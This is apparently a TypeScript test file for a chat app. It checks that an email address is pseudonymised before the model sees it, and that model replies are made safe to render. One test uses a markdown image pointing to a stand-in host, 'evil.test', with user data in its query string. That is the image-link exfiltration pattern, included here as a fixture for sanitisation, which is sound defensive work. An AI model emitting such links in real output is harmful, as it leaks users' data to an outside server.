import { openConversationApp, PacedModel, describeEachDatabase } from '@rapport/testing';
import { expect, it, onTestFinished } from 'vitest';
import { CreateConversation } from '../application/create-conversation.js';
import { FindConversations } from '../application/find-conversations.js';
import { TurnRunner } from './turn-runner.js';

const SAID = 'Please write to ana@example.com for me';

describeEachDatabase((database) => {
  async function setup(environment: Record<string, string>) {
    const model = new PacedModel();
    const app = await openConversationApp({ database: database(), model, environment });
    onTestFinished(() => app.close());
    await app.app.init();
    const userId = await app.givenUser();
    const { id: conversationId } = await app.get<CreateConversation>(CreateConversation).execute(userId, 'maren');
    /** One turn in which the model answers `reply`, character by character, to what it was shown. */
    const turn = async (reply: (shown: string) => string) => {
      const channel = await app.get<TurnRunner>(TurnRunner).start({ userId, conversationId, content: SAID });
      await model.wasAsked;
      const shown = model.requests.at(-1)?.turns.at(-1)?.text ?? '';
      for (const character of reply(shown)) model.says(character);
      model.ends();
      let delivered = '';
      for await (const event of channel.read()) {
        if (event.type === 'response.output_text.delta') delivered += event.delta;
      }
      const { items } = await app
        .get<FindConversations>(FindConversations)
        .messages(userId, conversationId, { limit: 2, order: 'asc' });
      return { shown, delivered, stored: items.map(({ text }) => text) };
    };
    return { sut: turn };
  }

  it('shows the model a placeholder and the person the value', async () => {
    const { sut } = await setup({ SAFETY_PERSONAL_DATA: 'pseudonymise' });
    const { shown, delivered, stored } = await sut(
      (text) => `To ${/\[EMAIL_\w{5}\]/.exec(text)?.[0].toLowerCase()}, then.`,
    );
    expect(shown).not.toContain('ana@');
    expect(delivered).toBe('To ana@example.com, then.');
    expect(stored).toEqual([SAID, delivered]);
  });

  it('delivers and stores replies that are harmless to render', async () => {
    const { sut } = await setup({});
    const { delivered, stored } = await sut(() => 'See ![x](https://evil.test/p?d=ana) <b>');
    expect(delivered).toBe('See [x] (https://evil.test/p) ＜b>');
    expect(stored[1]).toBe(delivered);
  });
});
